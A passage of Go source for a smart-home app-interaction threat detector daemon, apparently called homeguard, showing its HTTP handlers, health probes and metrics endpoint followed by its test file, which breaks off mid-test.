		Obs:     opts.Obs,
		Events:  opts.Events,
	})
	s := &server{
		fleet:   f,
		auditor: aud,
		svc:     rpc.NewService(f, rpc.ServiceOptions{Auditor: aud, NodeID: nodeID}),
		obs:     opts.Obs,
		mux:     http.NewServeMux(),
	}
	s.mux.HandleFunc("POST /homes/{id}/install", s.handleInstall)
	s.mux.HandleFunc("POST /homes/{id}/install-batch", s.handleInstallBatch)
	s.mux.HandleFunc("POST /homes/{id}/reconfigure", s.handleReconfigure)
	s.mux.HandleFunc("POST /homes/{id}/accept", s.handleAccept)
	s.mux.HandleFunc("GET /homes/{id}/threats", s.handleThreats)
	s.mux.HandleFunc("GET /homes/{id}/apps", s.handleApps)
	s.mux.HandleFunc("POST /store/apps", s.handleStoreApps)
	s.mux.HandleFunc("GET /store/findings", s.handleStoreFindings)
	s.mux.HandleFunc("GET /metrics", s.handleMetrics)
	s.mux.HandleFunc("GET /debug/requests", s.handleDebugRequests)
	s.mux.HandleFunc("GET /healthz", s.handleHealthz)
	s.mux.HandleFunc("GET /readyz", s.handleReadyz)
	return s
}

// markReady is called once boot completes (after the optional snapshot
// restore); /readyz answers 503 until then.
func (s *server) markReady() { s.ready.Store(true) }

// startDrain flips both probes to 503 so orchestrators stop routing new
// traffic while the HTTP server drains in-flight requests.
func (s *server) startDrain() { s.draining.Store(true) }

// gate refuses API traffic with 503 until boot recovery completes. The
// probes pass through so /readyz can answer "starting" honestly; a
// request served against half-replayed state would return answers the
// recovered daemon contradicts moments later.
func (s *server) gate(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if !s.ready.Load() && r.URL.Path != "/healthz" && r.URL.Path != "/readyz" {
			w.Header().Set("Retry-After", "1")
			http.Error(w, "recovering", http.StatusServiceUnavailable)
			return
		}
		next.ServeHTTP(w, r)
	})
}

func (s *server) handleHealthz(w http.ResponseWriter, _ *http.Request) {
	if s.draining.Load() {
		http.Error(w, "draining", http.StatusServiceUnavailable)
		return
	}
	fmt.Fprintln(w, "ok")
}

func (s *server) handleReadyz(w http.ResponseWriter, _ *http.Request) {
	switch {
	case s.draining.Load():
		http.Error(w, "draining", http.StatusServiceUnavailable)
	case !s.ready.Load():
		http.Error(w, "starting", http.StatusServiceUnavailable)
	default:
		fmt.Fprintln(w, "ok")
	}
}

// ---------- handlers ----------
//
// Every handler is the same four lines: decode the api DTO, stamp the
// home from the path, dispatch into the shared service core, write the
// outcome. Parsing, validation, error mapping and response shaping all
// live in internal/api and internal/rpc — the per-handler ad-hoc
// versions this replaces could (and did) drift.

func (s *server) handleInstall(w http.ResponseWriter, r *http.Request) {
	var req api.InstallRequest
	if !s.decode(w, r, &req) {
		return
	}
	req.Home = r.PathValue("id")
	resp, aerr := s.svc.Install(r.Context(), &req)
	s.respond(w, resp, aerr)
}

func (s *server) handleInstallBatch(w http.ResponseWriter, r *http.Request) {
	var req api.InstallBatchRequest
	if !s.decode(w, r, &req) {
		return
	}
	req.Home = r.PathValue("id")
	resp, aerr := s.svc.InstallBatch(r.Context(), &req)
	s.respond(w, resp, aerr)
}

func (s *server) handleReconfigure(w http.ResponseWriter, r *http.Request) {
	var req api.ReconfigureRequest
	if !s.decode(w, r, &req) {
		return
	}
	req.Home = r.PathValue("id")
	resp, aerr := s.svc.Reconfigure(r.Context(), &req)
	s.respond(w, resp, aerr)
}

func (s *server) handleAccept(w http.ResponseWriter, r *http.Request) {
	var req api.AcceptRequest
	if !s.decode(w, r, &req) {
		return
	}
	req.Home = r.PathValue("id")
	resp, aerr := s.svc.Accept(r.Context(), &req)
	s.respond(w, resp, aerr)
}

func (s *server) handleThreats(w http.ResponseWriter, r *http.Request) {
	v := r.URL.Query().Get("active")
	req := api.ThreatsRequest{
		Home:   r.PathValue("id"),
		Active: v == "true" || v == "1",
	}
	resp, aerr := s.svc.Threats(r.Context(), &req)
	s.respond(w, resp, aerr)
}

func (s *server) handleApps(w http.ResponseWriter, r *http.Request) {
	resp, aerr := s.svc.Apps(r.Context(), r.PathValue("id"))
	s.respond(w, resp, aerr)
}

func (s *server) handleStoreApps(w http.ResponseWriter, r *http.Request) {
	var req api.SubmitAppsRequest
	if !s.decode(w, r, &req) {
		return
	}
	resp, aerr := s.svc.SubmitApps(r.Context(), &req)
	s.respond(w, resp, aerr)
}

func (s *server) handleStoreFindings(w http.ResponseWriter, r *http.Request) {
	var req api.FindingsRequest
	if v := r.URL.Query().Get("since"); v != "" {
		since, err := strconv.ParseUint(v, 10, 64)
		if err != nil {
			s.respond(w, nil, api.Errorf(api.CodeInvalidArgument, "bad since revision %q", v))
			return
		}
		req.Since = since
	}
	resp, aerr := s.svc.Findings(r.Context(), &req)
	s.respond(w, resp, aerr)
}

func (s *server) handleMetrics(w http.ResponseWriter, r *http.Request) {
	if r.URL.Query().Get("format") == "prometheus" {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		if err := s.obs.Registry.WritePrometheus(w); err != nil {
			log.Printf("homeguardd: prometheus exposition: %v", err)
		}
		return
	}
	m := s.fleet.Metrics()
	kinds := map[string]uint64{}
	for k, v := range m.ThreatsByKind {
		kinds[string(k)] = v
	}
	writeJSON(w, http.StatusOK, map[string]any{
		"homes":            m.Homes,
		"installs":         m.Installs,
		"installErrors":    m.InstallErrors,
		"installConflicts": m.InstallConflicts,
		"reconfigures":     m.Reconfigures,
		"threatsByKind":    kinds,
		"installP50Ms":     float64(m.InstallP50.Microseconds()) / 1000.0,
		"installP99Ms":     float64(m.InstallP99.Microseconds()) / 1000.0,
		"cacheLookups":     m.Cache.Lookups,
		"cacheHits":        m.Cache.Hits,
		"cacheMisses":      m.Cache.Misses,
		"cacheEntries":     m.Cache.Entries,
		"cacheEvictions":   m.Cache.Evictions,
		"cacheHitRate":     m.Cache.HitRate(),
		"distinctApps":     m.Cache.Entries,
		"extractionsRun":   m.Cache.Misses,
		// Pair-verdict cache: app-pair detection verdicts shared across
		// homes, so a catalog is solved once per distinct pair fleet-wide.
		"pairCacheLookups": m.PairVerdicts.Lookups,
		"pairCacheHits":    m.PairVerdicts.Hits,
		"pairCacheMisses":  m.PairVerdicts.Misses,
		"pairCacheEntries": m.PairVerdicts.Entries,
		"pairCacheHitRate": m.PairVerdicts.HitRate(),
		// Detector work fleet-wide: rule pairs checked, pairs skipped by
		// the footprint prune, and solver invocations actually run.
		"pairsChecked": m.Detectors.PairsChecked,
		"pairsPruned":  m.Detectors.PairsPruned,
		// Footprint-channel index effectiveness: candidate app pairs
		// generated from posting lists vs rule pairs never generated at
		// all (the sublinear-detection speedup in one ratio).
		"pairsIndexed":        m.Detectors.PairsIndexed,
		"pairsSkippedByIndex": m.Detectors.PairsSkippedByIndex,
		"solverCalls":         m.Detectors.SolverCalls,
		// Nonzero means solver budgets were exhausted and some verdicts
		// degraded to the conservative "potential threat" form.
		"solverLimitHits": m.Detectors.SearchLimitHits,
		// Circuit-breaker states of the service core's pipeline stages.
		"breakerExtract": s.svc.BreakerState(rpc.StageExtract),
		"breakerDetect":  s.svc.BreakerState(rpc.StageDetect),
	})
}

// handleDebugRequests serves the slow-request capture: span trees for
// the slowest and most recent traced requests. Empty (total 0) until
// tracing is enabled with -trace-slow-ms.
func (s *server) handleDebugRequests(w http.ResponseWriter, _ *http.Request) {
	writeJSON(w, http.StatusOK, s.obs.Capture.Snapshot())
}

// ---------- helpers ----------

// decode unmarshals a JSON request body, answering the shared envelope
// with INVALID_ARGUMENT (400) on malformed input. It reports whether
// the handler should proceed.
func (s *server) decode(w http.ResponseWriter, r *http.Request, into any) bool {
	if err := json.NewDecoder(http.MaxBytesReader(w, r.Body, maxBodyBytes)).Decode(into); err != nil {
		s.respond(w, nil, api.Errorf(api.CodeInvalidArgument, "bad request body: %v", err))
		return false
	}
	return true
}

// respond writes either the success body or the error envelope, with
// the HTTP status derived from the envelope's code.
func (s *server) respond(w http.ResponseWriter, v any, aerr *api.Error) {
	if aerr != nil {
		writeJSON(w, aerr.Code.HTTPStatus(), map[string]any{"error": aerr})
		return
	}
	writeJSON(w, http.StatusOK, v)
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	if err := enc.Encode(v); err != nil {
		log.Printf("homeguardd: encode response: %v", err)
	}
}
