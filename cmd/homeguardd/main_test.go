package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"homeguard/internal/api"
	"homeguard/internal/fleet"
	"homeguard/internal/obs"
)

func doJSON(t *testing.T, srv *server, method, path string, body any) (int, map[string]any) {
	t.Helper()
	var buf bytes.Buffer
	if body != nil {
		if err := json.NewEncoder(&buf).Encode(body); err != nil {
			t.Fatal(err)
		}
	}
	req := httptest.NewRequest(method, path, &buf)
	w := httptest.NewRecorder()
	srv.mux.ServeHTTP(w, req)
	var out map[string]any
	if err := json.Unmarshal(w.Body.Bytes(), &out); err != nil {
		t.Fatalf("%s %s: non-JSON response %q: %v", method, path, w.Body.String(), err)
	}
	return w.Code, out
}

func TestDaemonEndToEnd(t *testing.T) {
	srv := newServer(fleet.Options{Shards: 4})

	// First install into a fresh home: no threats.
	code, resp := doJSON(t, srv, "POST", "/homes/h1/install",
		map[string]any{"corpus": "ComfortTV"})
	if code != http.StatusOK {
		t.Fatalf("install ComfortTV: status %d, resp %v", code, resp)
	}
	if app := resp["app"]; app != "ComfortTV" {
		t.Errorf("app = %v, want ComfortTV", app)
	}
	if n := len(resp["threats"].([]any)); n != 0 {
		t.Errorf("first install reported %d threats", n)
	}

	// Second install: the Fig. 3 interference appears.
	code, resp = doJSON(t, srv, "POST", "/homes/h1/install",
		map[string]any{"corpus": "ColdDefender"})
	if code != http.StatusOK {
		t.Fatalf("install ColdDefender: status %d, resp %v", code, resp)
	}
	threats := resp["threats"].([]any)
	if len(threats) == 0 {
		t.Fatal("ColdDefender install reported no threats")
	}
	first := threats[0].(map[string]any)
	for _, field := range []string{"kind", "class", "rule1", "rule2", "text"} {
		if first[field] == "" || first[field] == nil {
			t.Errorf("threat JSON missing %q: %v", field, first)
		}
	}

	// Threat log endpoint agrees, with accept-usable indices.
	code, resp = doJSON(t, srv, "GET", "/homes/h1/threats", nil)
	if code != http.StatusOK {
		t.Fatalf("threats: status %d", code)
	}
	logged := resp["threats"].([]any)
	if len(logged) != len(threats) {
		t.Errorf("GET threats = %d entries, want %d", len(logged), len(threats))
	}
	for i, raw := range logged {
		if idx := raw.(map[string]any)["index"].(float64); int(idx) != i {
			t.Errorf("threat log entry %d has index %v", i, idx)
		}
	}

	// Accept the first threat by its log index.
	code, resp = doJSON(t, srv, "POST", "/homes/h1/accept",
		map[string]any{"threats": []int{0}})
	if code != http.StatusOK {
		t.Fatalf("accept: status %d, resp %v", code, resp)
	}
	code, _ = doJSON(t, srv, "POST", "/homes/h1/accept",
		map[string]any{"threats": []int{99}})
	if code != http.StatusBadRequest {
		t.Errorf("accept out-of-range index: status %d, want 400", code)
	}

	// Re-installing an app the home already has is a conflict, not a
	// silent duplicate.
	code, _ = doJSON(t, srv, "POST", "/homes/h1/install",
		map[string]any{"corpus": "ComfortTV"})
	if code != http.StatusConflict {
		t.Errorf("duplicate install: status %d, want 409", code)
	}

	// Reconfigure the installed app under an explicit empty config.
	code, resp = doJSON(t, srv, "POST", "/homes/h1/reconfigure",
		map[string]any{"app": "ColdDefender", "config": map[string]any{}})
	if code != http.StatusOK {
		t.Fatalf("reconfigure: status %d, resp %v", code, resp)
	}
	reThreats := resp["threats"].([]any)
	if len(reThreats) != len(threats) {
		t.Errorf("reconfigure reported %d threats, want %d", len(reThreats), len(threats))
	}
	// Reconfigure threats carry real log indices (appended after the
	// install-reported ones), so clients can accept them directly.
	for i, raw := range reThreats {
		if idx := raw.(map[string]any)["index"].(float64); int(idx) != len(threats)+i {
			t.Errorf("reconfigure threat %d has index %v, want %d", i, idx, len(threats)+i)
		}
	}

	// Apps endpoint.
	code, resp = doJSON(t, srv, "GET", "/homes/h1/apps", nil)
	if code != http.StatusOK || len(resp["apps"].([]any)) != 2 {
		t.Errorf("apps: status %d resp %v, want 2 apps", code, resp)
	}

	// Metrics reflect the work: 2 installs, 2 distinct extractions.
	code, resp = doJSON(t, srv, "GET", "/metrics", nil)
	if code != http.StatusOK {
		t.Fatalf("metrics: status %d", code)
	}
	if got := resp["installs"].(float64); got != 2 {
		t.Errorf("metrics installs = %v, want 2", got)
	}
	if got := resp["cacheMisses"].(float64); got != 2 {
		t.Errorf("metrics cacheMisses = %v, want 2", got)
	}
	if got := resp["homes"].(float64); got != 1 {
		t.Errorf("metrics homes = %v, want 1", got)
	}
	if _, ok := resp["cacheHitRate"]; !ok {
		t.Error("metrics missing cacheHitRate")
	}
	if _, ok := resp["installP99Ms"]; !ok {
		t.Error("metrics missing installP99Ms")
	}
	kinds := resp["threatsByKind"].(map[string]any)
	if len(kinds) == 0 {
		t.Error("metrics threatsByKind is empty after a threat-reporting install")
	}
	// Pair-verdict cache and detector-work counters are surfaced too.
	for _, key := range []string{"pairCacheLookups", "pairCacheHits", "pairCacheMisses",
		"pairCacheEntries", "pairCacheHitRate", "pairsChecked", "pairsPruned", "solverCalls"} {
		if _, ok := resp[key].(float64); !ok {
			t.Errorf("metrics missing numeric %s", key)
		}
	}
	if got, _ := resp["pairCacheLookups"].(float64); got == 0 {
		t.Error("metrics pairCacheLookups = 0 after pair-checking installs")
	}
	if got, _ := resp["solverCalls"].(float64); got == 0 {
		t.Error("metrics solverCalls = 0 after a threat-reporting install")
	}
}

// TestDaemonPrometheusExposition drives real traffic through the daemon
// and requires /metrics?format=prometheus to serve parseable exposition
// containing the stable homeguard_* catalog with sane values.
func TestDaemonPrometheusExposition(t *testing.T) {
	srv := newServer(fleet.Options{Shards: 4})
	for _, app := range []string{"ComfortTV", "ColdDefender"} {
		if code, resp := doJSON(t, srv, "POST", "/homes/h1/install",
			map[string]any{"corpus": app}); code != http.StatusOK {
			t.Fatalf("install %s: status %d resp %v", app, code, resp)
		}
	}

	req := httptest.NewRequest("GET", "/metrics?format=prometheus", nil)
	w := httptest.NewRecorder()
	srv.mux.ServeHTTP(w, req)
	if w.Code != http.StatusOK {
		t.Fatalf("prometheus metrics: status %d", w.Code)
	}
	if ct := w.Header().Get("Content-Type"); !strings.HasPrefix(ct, "text/plain") {
		t.Errorf("Content-Type = %q, want text/plain exposition", ct)
	}
	samples, err := obs.ParseExposition(bytes.NewReader(w.Body.Bytes()))
	if err != nil {
		t.Fatalf("exposition failed to parse: %v\n%s", err, w.Body.String())
	}
	byName := map[string]float64{}
	for _, s := range samples {
		byName[s.Name] = s.Value
	}
	if got := byName["homeguard_installs_total"]; got != 2 {
		t.Errorf("homeguard_installs_total = %v, want 2", got)
	}
	if got := byName["homeguard_homes"]; got != 1 {
		t.Errorf("homeguard_homes = %v, want 1", got)
	}
	if got := byName["homeguard_extract_cache_misses_total"]; got != 2 {
		t.Errorf("homeguard_extract_cache_misses_total = %v, want 2", got)
	}
	if got := byName["homeguard_install_duration_seconds_count"]; got != 2 {
		t.Errorf("homeguard_install_duration_seconds_count = %v, want 2", got)
	}
	if got := byName["homeguard_solver_calls_total"]; got == 0 {
		t.Error("homeguard_solver_calls_total = 0 after a threat-reporting install")
	}
	// The threat counter is labeled per kind; find at least one sample.
	var threatKinds int
	for _, s := range samples {
		if s.Name == "homeguard_threats_total" {
			threatKinds++
			var hasKind bool
			for _, l := range s.Labels {
				hasKind = hasKind || (l.Name == "kind" && l.Value != "")
			}
			if !hasKind {
				t.Errorf("homeguard_threats_total sample without kind label: %v", s)
			}
		}
	}
	if threatKinds == 0 {
		t.Error("no homeguard_threats_total samples after a threat-reporting install")
	}

	// JSON /metrics still serves the original shape alongside.
	if code, resp := doJSON(t, srv, "GET", "/metrics", nil); code != http.StatusOK || resp["installs"].(float64) != 2 {
		t.Errorf("JSON metrics after prometheus scrape: status %d resp %v", code, resp)
	}
}

// TestDaemonDebugRequestsAndSlowLog enables tracing, pushes installs
// through, and requires /debug/requests to serve captured span trees
// whose stages include the acceptance-criterion pipeline stages.
func TestDaemonDebugRequestsAndSlowLog(t *testing.T) {
	o := obs.NewObserver()
	o.Tracer.SetEnabled(true)
	var logBuf syncBuffer
	o.Tracer.SetLogger(slog.New(slog.NewJSONHandler(&logBuf, nil)))
	o.Tracer.SetSlowThreshold(time.Nanosecond) // everything is "slow"
	srv := newServer(fleet.Options{Shards: 4, Obs: o})

	for _, app := range []string{"ComfortTV", "ColdDefender"} {
		if code, resp := doJSON(t, srv, "POST", "/homes/h1/install",
			map[string]any{"corpus": app}); code != http.StatusOK {
			t.Fatalf("install %s: status %d resp %v", app, code, resp)
		}
	}
	if code, resp := doJSON(t, srv, "POST", "/homes/h1/reconfigure",
		map[string]any{"app": "ColdDefender", "config": map[string]any{}}); code != http.StatusOK {
		t.Fatalf("reconfigure: status %d resp %v", code, resp)
	}

	code, resp := doJSON(t, srv, "GET", "/debug/requests", nil)
	if code != http.StatusOK {
		t.Fatalf("/debug/requests: status %d", code)
	}
	if got := resp["total"].(float64); got != 3 {
		t.Errorf("capture total = %v, want 3 traced requests", got)
	}
	recent := resp["recent"].([]any)
	if len(recent) != 3 {
		t.Fatalf("capture recent has %d trees, want 3", len(recent))
	}
	// recent is newest-first: reconfigure, then the two installs.
	if name := recent[0].(map[string]any)["name"]; name != "reconfigure" {
		t.Errorf("newest capture is %v, want reconfigure", name)
	}
	// The second install (ColdDefender, shares a channel with ComfortTV)
	// must show the full pipeline: extract, detect w/ compile, solve.
	tree := recent[1].(map[string]any)
	if name := tree["name"]; name != "install" {
		t.Fatalf("capture[1] is %v, want install", name)
	}
	stages := map[string]bool{}
	var walk func(n map[string]any)
	walk = func(n map[string]any) {
		stages[n["name"].(string)] = true
		if kids, ok := n["children"].([]any); ok {
			for _, k := range kids {
				walk(k.(map[string]any))
			}
		}
	}
	walk(tree)
	for _, want := range []string{"install", "extract", "detect", "compile", "solve", "verdict"} {
		if !stages[want] {
			t.Errorf("captured install tree missing stage %q (have %v)", want, stages)
		}
	}
	if slowest := resp["slowest"].([]any); len(slowest) == 0 {
		t.Error("capture slowest is empty")
	}

	// Every request beat the 1ns threshold, so the slow log has JSON
	// records with span/duration attrs.
	logs := logBuf.String()
	if !strings.Contains(logs, `"span":"install"`) || !strings.Contains(logs, `"trace"`) {
		t.Errorf("slow log missing span/trace attrs:\n%s", logs)
	}
}

// syncBuffer is a mutex-guarded bytes.Buffer: slog handlers may be
// invoked from request goroutines while the test reads the output.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// TestDaemonHealthProbes pins the probe lifecycle: readyz is 503 until
// markReady, both probes are 200 while serving, and both flip to 503
// once a graceful drain begins.
func TestDaemonHealthProbes(t *testing.T) {
	srv := newServer(fleet.Options{Shards: 4})
	get := func(path string) (int, string) {
		w := httptest.NewRecorder()
		srv.mux.ServeHTTP(w, httptest.NewRequest("GET", path, nil))
		return w.Code, strings.TrimSpace(w.Body.String())
	}

	if code, _ := get("/healthz"); code != http.StatusOK {
		t.Errorf("healthz before ready: status %d, want 200 (liveness != readiness)", code)
	}
	if code, body := get("/readyz"); code != http.StatusServiceUnavailable || body != "starting" {
		t.Errorf("readyz before ready: status %d body %q, want 503 starting", code, body)
	}

	srv.markReady()
	if code, _ := get("/healthz"); code != http.StatusOK {
		t.Errorf("healthz while serving: status %d", code)
	}
	if code, body := get("/readyz"); code != http.StatusOK || body != "ok" {
		t.Errorf("readyz while serving: status %d body %q", code, body)
	}

	srv.startDrain()
	if code, body := get("/healthz"); code != http.StatusServiceUnavailable || body != "draining" {
		t.Errorf("healthz during drain: status %d body %q, want 503 draining", code, body)
	}
	if code, body := get("/readyz"); code != http.StatusServiceUnavailable || body != "draining" {
		t.Errorf("readyz during drain: status %d body %q, want 503 draining", code, body)
	}
	// The API itself still serves while draining — Shutdown handles the
	// connection lifecycle; the probes only steer the balancer.
	if code, _ := doJSON(t, srv, "POST", "/homes/h1/install",
		map[string]any{"corpus": "ComfortTV"}); code != http.StatusOK {
		t.Errorf("install during drain: status %d, want 200", code)
	}
}

func TestDaemonBadRequests(t *testing.T) {
	srv := newServer(fleet.Options{Shards: 4})

	code, _ := doJSON(t, srv, "POST", "/homes/h1/install", map[string]any{})
	if code != http.StatusBadRequest {
		t.Errorf("install with neither source nor corpus: status %d, want 400", code)
	}
	code, _ = doJSON(t, srv, "POST", "/homes/h1/install",
		map[string]any{"source": "x", "corpus": "y"})
	if code != http.StatusBadRequest {
		t.Errorf("install with both source and corpus: status %d, want 400", code)
	}
	code, _ = doJSON(t, srv, "POST", "/homes/h1/install",
		map[string]any{"corpus": "NoSuchApp"})
	if code != http.StatusNotFound {
		t.Errorf("install unknown corpus app: status %d, want 404", code)
	}
	code, _ = doJSON(t, srv, "POST", "/homes/h1/install",
		map[string]any{"source": "not groovy {{{"})
	if code != http.StatusUnprocessableEntity {
		t.Errorf("install unparseable source: status %d, want 422", code)
	}
	code, _ = doJSON(t, srv, "GET", "/homes/ghost/threats", nil)
	if code != http.StatusNotFound {
		t.Errorf("threats of unknown home: status %d, want 404", code)
	}
	code, _ = doJSON(t, srv, "POST", "/homes/ghost/reconfigure",
		map[string]any{"app": "X"})
	if code != http.StatusNotFound {
		t.Errorf("reconfigure unknown home: status %d, want 404", code)
	}
	code, _ = doJSON(t, srv, "POST", "/homes/h1/reconfigure", map[string]any{})
	if code != http.StatusBadRequest {
		t.Errorf("reconfigure without app: status %d, want 400", code)
	}
	code, _ = doJSON(t, srv, "POST", "/homes/ghost/accept", map[string]any{"threats": []int{0}})
	if code != http.StatusNotFound {
		t.Errorf("accept in unknown home: status %d, want 404", code)
	}
	code, _ = doJSON(t, srv, "POST", "/homes/ghost/accept", map[string]any{})
	if code != http.StatusBadRequest {
		t.Errorf("accept without indices: status %d, want 400", code)
	}
	// Config values must be string/number/bool.
	code, _ = doJSON(t, srv, "POST", "/homes/h1/install", map[string]any{
		"corpus": "ComfortTV",
		"config": map[string]any{"values": map[string]any{"x": []any{1}}},
	})
	if code != http.StatusBadRequest {
		t.Errorf("install with bad config value type: status %d, want 400", code)
	}
	// Non-integral numbers are rejected rather than silently truncated.
	code, resp := doJSON(t, srv, "POST", "/homes/h1/install", map[string]any{
		"corpus": "ComfortTV",
		"config": map[string]any{"values": map[string]any{"threshold1": 72.5}},
	})
	if code != http.StatusBadRequest {
		t.Errorf("install with non-integral value: status %d resp %v, want 400", code, resp)
	}
	// Integral but beyond int64: rejected, not silently wrapped.
	code, resp = doJSON(t, srv, "POST", "/homes/h1/install", map[string]any{
		"corpus": "ComfortTV",
		"config": map[string]any{"values": map[string]any{"threshold1": 1e300}},
	})
	if code != http.StatusBadRequest {
		t.Errorf("install with overflowing value: status %d resp %v, want 400", code, resp)
	}
}

func TestDaemonConfigParsing(t *testing.T) {
	cj := &api.Config{
		Devices:     map[string]string{"tv1": "dev-1"},
		Values:      map[string]any{"threshold1": float64(30), "name": "x", "on": true},
		ValueLists:  map[string][]string{"modes": {"Home", "Away"}},
		DeviceTypes: map[string]string{"sw": "heater"},
	}
	cfg, aerr := cj.ToDetect()
	if aerr != nil {
		t.Fatal(aerr)
	}
	if cfg.Devices["tv1"] != "dev-1" {
		t.Errorf("device binding lost: %v", cfg.Devices)
	}
	if len(cfg.Values) != 3 || len(cfg.ValueLists["modes"]) != 2 {
		t.Errorf("values lost: %v %v", cfg.Values, cfg.ValueLists)
	}
	if string(cfg.DeviceTypes["sw"]) != "heater" {
		t.Errorf("device type lost: %v", cfg.DeviceTypes)
	}
	var nilCfg *api.Config
	if got, aerr := nilCfg.ToDetect(); aerr != nil || got != nil {
		t.Errorf("nil config → (%v, %v), want (nil, nil)", got, aerr)
	}
}

// TestDaemonReconfigureUnknownApp404 is the regression test for the typed
// not-found mapping: reconfiguring an app absent from an EXISTING home
// must answer 404 (fleet.ErrAppNotInstalled), not a generic 422.
func TestDaemonReconfigureUnknownApp404(t *testing.T) {
	srv := newServer(fleet.Options{Shards: 4})
	code, _ := doJSON(t, srv, "POST", "/homes/h1/install", map[string]any{"corpus": "ComfortTV"})
	if code != http.StatusOK {
		t.Fatalf("install: status %d", code)
	}
	code, resp := doJSON(t, srv, "POST", "/homes/h1/reconfigure",
		map[string]any{"app": "NoSuchApp"})
	if code != http.StatusNotFound {
		t.Errorf("reconfigure unknown app: status %d resp %v, want 404", code, resp)
	}
}

// TestDaemonActiveThreatsView: ?active=true serves the incremental
// ledger — after a resolving reconfigure the active set is empty while
// the plain log keeps history.
func TestDaemonActiveThreatsView(t *testing.T) {
	srv := newServer(fleet.Options{Shards: 4})
	sharedCfg := map[string]any{"devices": map[string]any{"tv1": "tv-A", "window1": "win-1"}}
	code, _ := doJSON(t, srv, "POST", "/homes/h1/install",
		map[string]any{"corpus": "ComfortTV", "config": sharedCfg})
	if code != http.StatusOK {
		t.Fatalf("install ComfortTV: status %d", code)
	}
	code, resp := doJSON(t, srv, "POST", "/homes/h1/install",
		map[string]any{"corpus": "ColdDefender", "config": sharedCfg})
	if code != http.StatusOK || len(resp["threats"].([]any)) == 0 {
		t.Fatalf("install ColdDefender: status %d, threats %v", code, resp["threats"])
	}
	nThreats := len(resp["threats"].([]any))

	code, resp = doJSON(t, srv, "GET", "/homes/h1/threats?active=true", nil)
	if code != http.StatusOK {
		t.Fatalf("active threats: status %d", code)
	}
	if n := len(resp["threats"].([]any)); n != nThreats {
		t.Errorf("active view has %d threats, want %d", n, nThreats)
	}

	// Rebind ColdDefender away from the shared window: the actuator race
	// resolves (a cross-device goal conflict may remain — the active view
	// must mirror exactly what the reconfigure reported).
	code, resp = doJSON(t, srv, "POST", "/homes/h1/reconfigure", map[string]any{
		"app":    "ColdDefender",
		"config": map[string]any{"devices": map[string]any{"tv1": "tv-A", "window1": "win-ELSEWHERE"}},
	})
	if code != http.StatusOK {
		t.Fatalf("reconfigure: status %d", code)
	}
	kindsOf := func(list []any) map[string]int {
		out := map[string]int{}
		for _, x := range list {
			out[x.(map[string]any)["kind"].(string)]++
		}
		return out
	}
	reKinds := kindsOf(resp["threats"].([]any))
	if reKinds["AR"] != 0 {
		t.Errorf("actuator race survived the rebinding: %v", reKinds)
	}
	code, resp = doJSON(t, srv, "GET", "/homes/h1/threats?active=1", nil)
	if code != http.StatusOK {
		t.Fatalf("active threats: status %d", code)
	}
	if got := kindsOf(resp["threats"].([]any)); fmt.Sprint(got) != fmt.Sprint(reKinds) {
		t.Errorf("active view = %v, want the reconfigure verdict %v", got, reKinds)
	}
	code, resp = doJSON(t, srv, "GET", "/homes/h1/threats", nil)
	if code != http.StatusOK || len(resp["threats"].([]any)) < nThreats {
		t.Errorf("history log lost entries: %v", resp["threats"])
	}
}

// TestDaemonSnapshotWarmBoot is the daemon-level warm-start exercise the
// CI snapshot job runs: populate a fleet over the API, save a snapshot,
// boot a fresh fleet from it, and require the repeat install storm to be
// served entirely warm — an extraction-cache hit ratio of at least 0.99
// and zero new symbolic executions or pair-verdict misses.
func TestDaemonSnapshotWarmBoot(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "snapshot")

	apps := []string{"ComfortTV", "ColdDefender", "MakeItSo", "AutoLockDoor", "EnergySaver"}
	warm := newServer(fleet.Options{Shards: 4})
	for _, app := range apps {
		code, resp := doJSON(t, warm, "POST", "/homes/h1/install", map[string]any{"corpus": app})
		if code != http.StatusOK {
			t.Fatalf("install %s: status %d resp %v", app, code, resp)
		}
	}
	if err := saveSnapshot(path, warm.fleet); err != nil {
		t.Fatalf("saveSnapshot: %v", err)
	}
	if _, err := os.Stat(path + ".tmp"); !os.IsNotExist(err) {
		t.Error("temp snapshot file left behind")
	}

	cold := newServer(fleet.Options{Shards: 4})
	loadSnapshot(path, cold.fleet)
	before := cold.fleet.Metrics()
	if before.Cache.Lookups != 0 {
		t.Fatalf("restore counted %d cache lookups; restores must not skew hit ratios", before.Cache.Lookups)
	}

	// The repeat install storm: same catalog, different homes.
	for i, app := range apps {
		home := fmt.Sprintf("/homes/h%d/install", 100+i)
		code, resp := doJSON(t, cold, "POST", home, map[string]any{"corpus": app})
		if code != http.StatusOK {
			t.Fatalf("warm install %s: status %d resp %v", app, code, resp)
		}
	}
	m := cold.fleet.Metrics()
	if m.Cache.Misses != 0 {
		t.Errorf("warm boot ran %d extractions, want 0", m.Cache.Misses)
	}
	if hr := m.Cache.HitRate(); hr < 0.99 {
		t.Errorf("warm-boot extraction hit ratio = %.3f, want >= 0.99", hr)
	}
	if m.PairVerdicts.Misses != 0 {
		t.Errorf("warm boot solved %d pair verdicts, want 0 (all restored)", m.PairVerdicts.Misses)
	}

	// A second save/load cycle from the restored fleet stays intact.
	if err := saveSnapshot(path, cold.fleet); err != nil {
		t.Fatalf("re-save: %v", err)
	}
	again := newServer(fleet.Options{Shards: 4})
	loadSnapshot(path, again.fleet)
	code, resp := doJSON(t, again, "POST", "/homes/z/install", map[string]any{"corpus": "ComfortTV"})
	if code != http.StatusOK {
		t.Fatalf("install after re-load: status %d resp %v", code, resp)
	}
	if m := again.fleet.Metrics(); m.Cache.Misses != 0 {
		t.Errorf("second warm boot ran %d extractions, want 0", m.Cache.Misses)
	}

	// Damage the file on disk: the daemon must boot cold, not crash.
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
